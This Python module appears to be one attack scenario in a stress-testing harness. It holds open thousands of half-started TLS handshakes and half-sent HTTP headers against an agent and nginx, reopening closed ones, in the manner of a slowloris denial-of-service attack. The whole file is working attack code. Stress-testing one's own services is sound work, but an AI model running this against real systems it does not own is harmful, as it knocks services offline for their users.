"""Connections that begin and never go on: to the agent with four bytes of TLS, to nginx with half a header. What is closed
is opened again, so that there are as many for as long as it lasts."""
import asyncio
import errno
import os
import select
import socket
import time

from world import STRANGERS

NAME = "handshakes"
TLS_EACH, HALF_ALL = 1000, 15000
HALF_EACH = int(os.environ.get("HALF_HEADERS", HALF_ALL)) // STRANGERS
OPENED_PER_S = 400  # of each stranger and sort
TICK_S = 0.02
HELLO, HALF = b"\x16\x03\x01\x02", b"GET /login HTTP/1.1\r\nHost: x\r\nX-Half: "
ALLOWED = 0


class Held:
    """So many connections from one address, each with the same few bytes."""

    def __init__(self, s, what, target, count, first):
        self.s, self.what, self.target, self.count, self.first = s, what, target, count, first
        self.poll, self.open, self.opened = select.epoll(), {}, 0
        s.closers.append(self.close)

    def connect(self):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.bind((self.s.source, 0))
        if sock.connect_ex(self.target) not in (0, errno.EINPROGRESS):
            sock.close()
            self.s.count[f"{self.what}: no connection"] += 1
            return
        self.open[sock.fileno()] = sock
        self.poll.register(sock.fileno(), select.EPOLLIN | select.EPOLLOUT)

    def step(self):
        """What became of them: those that are there get their bytes, those that were closed are forgotten."""
        for number, events in self.poll.poll(0, 512):
            sock = self.open[number]
            try:
                if events & ~select.EPOLLOUT:
                    if not sock.recv(4096):
                        raise ConnectionError
                elif events & select.EPOLLOUT:
                    self.poll.modify(number, select.EPOLLIN)
                    sock.send(self.first)
                    self.s.count[f"{self.what}: begun"] += 1
            except OSError:
                self.poll.unregister(number)
                del self.open[number]
                sock.close()
                self.s.count[f"{self.what}: closed by the other"] += 1

    async def hold(self):
        started = time.monotonic()
        while not self.s.over:
            due = int((time.monotonic() - started) * OPENED_PER_S)
            while self.opened < due and len(self.open) < self.count:
                self.opened += 1
                self.connect()
            self.opened = max(self.opened, due)
            self.step()
            most = f"{self.what}: held at most"
            self.s.count[most] = max(self.s.count[most], len(self.open))
            await asyncio.sleep(TICK_S)

    def close(self):
        for sock in self.open.values():
            sock.close()
        self.poll.close()


async def attack(s):
    await asyncio.gather(Held(s, "TLS", s.place.sips, TLS_EACH, HELLO).hold(),
                         Held(s, "half header", s.place.http, HALF_EACH, HALF).hold())
